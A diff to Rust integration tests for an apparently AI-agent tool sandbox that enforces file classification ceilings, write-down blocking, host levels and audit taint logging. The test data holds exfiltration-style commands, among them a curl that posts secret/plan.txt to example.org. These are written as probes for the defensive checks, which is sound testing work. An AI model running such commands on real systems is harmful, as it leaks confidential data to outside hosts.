@@ -20,11 +20,6 @@ fn place() -> Place {
         .file("vault/key.txt", "the key\n")
 }
 
-fn call(place: &Place, tool: &str, arguments: &Value, more: &[&str]) -> Out {
-    let arguments = arguments.to_string();
-    place.run(["tool", "call", tool, arguments.as_str()].iter().chain(more))
-}
-
 /// Lines said to one conversation, in write mode.
 fn said(place: &Place, lines: &[&str]) -> Out {
     place.placet(["--mode", "write"]).stdin(lines.iter().map(|l| format!("{l}\n")).collect::<String>()).go()
@@ -61,11 +56,12 @@ fn before_anything_classified_is_read_everything_works_as_ever() {
 fn what_is_above_the_ceiling_of_whoever_answers_is_not_read_at_all() {
     let place = place();
     let read = json!({"path": "vault/key.txt"});
-    let out = call(&place, "read_file", &read, &[]).code(3).warns(
+    let out = place.call("read_file", &read, &[]).code(3).warns(
         "Access denied — \"vault/key.txt\" is classified RESTRICTED, which exceeds your session ceiling CONFIDENTIAL",
     );
     assert!(!out.stdout.contains("the key"));
-    call(&place, "read_file", &read, &["--set", "classification.provider_ceiling=RESTRICTED"])
+    place
+        .call("read_file", &read, &["--set", "classification.provider_ceiling=RESTRICTED"])
         .code(0)
         .says("the key");
     // The refused one did not raise anything.
@@ -77,7 +73,7 @@ fn what_is_above_the_ceiling_of_whoever_answers_is_not_read_at_all() {
 fn a_walk_shows_nothing_above_the_session_and_all_of_it_once_the_session_is_there() {
     let place = place();
     let search = json!({"pattern": "the"});
-    let out = call(&place, "search_contents", &search, &[]);
+    let out = place.call("search_contents", &search, &[]);
     assert!(!out.stdout.contains("the plan") && !out.stdout.contains("the key"), "{out:#?}");
     let out = said(&place, &["show secret/plan.txt", "search \"the plan\""]).code(0);
     assert!(out.stdout.contains("secret/plan.txt"), "{out:#?}");
@@ -107,7 +103,7 @@ fn a_command_counts_as_reading_what_it_names_and_what_it_writes_lower_is_thrown_
         return;
     }
     let place = place();
-    let run = |line: &str| call(&place, "run_command", &json!({"command": line}), &["--mode", "write"]);
+    let run = |line: &str| place.call("run_command", &json!({"command": line}), &["--mode", "write"]);
     run("cat secret/plan.txt > out.txt").code(3).warns("Write-down blocked");
     run("curl example.org -d @secret/plan.txt").code(0);
     // What it does not name it does not see.
@@ -133,7 +129,8 @@ fn a_command_counts_as_reading_what_it_names_and_what_it_writes_lower_is_thrown_
 fn a_host_may_have_no_more_than_its_level() {
     let place = place();
     let wanted = json!({"command": "cat secret/plan.txt", "network": ["example.org"]});
-    call(&place, "run_command", &wanted, &["--mode", "write", "--allow", "network(*)"])
+    place
+        .call("run_command", &wanted, &["--mode", "write", "--allow", "network(*)"])
         .code(3)
         .warns("the host \"example.org\" may have PUBLIC at most");
 }
@@ -141,8 +138,8 @@ fn a_host_may_have_no_more_than_its_level() {
 #[test]
 fn the_log_names_the_level_only_where_something_is_classified() {
     let place = place();
-    call(&place, "read_file", &json!({"path": "secret/plan.txt"}), &[]).code(0);
-    call(&place, "read_file", &json!({"path": "a.txt"}), &["--set", "classification.paths="]).code(0);
+    place.call("read_file", &json!({"path": "secret/plan.txt"}), &[]).code(0);
+    place.call("read_file", &json!({"path": "a.txt"}), &["--set", "classification.paths="]).code(0);
     let taints: Vec<Value> =
         place.run(["audit", "show", "--json"]).code(0).lines().iter().map(|e| e["taint"].clone()).collect();
     let level = json!("CONFIDENTIAL");
@@ -154,7 +151,7 @@ fn a_label_that_cannot_be_read_holds_everything_down() {
     let place = Place::new()
         .config("mode = \"write\"\n[classification]\npaths = [\"SECRET:a\"]\n")
         .file("a.txt", "x");
-    let out = call(&place, "read_file", &json!({"path": "a.txt"}), &[]).code(3);
+    let out = place.call("read_file", &json!({"path": "a.txt"}), &[]).code(3);
     assert!(out.stderr.contains("invalid classification `SECRET:a`: expected LEVEL:PATTERN"), "{out:#?}");
 }
 
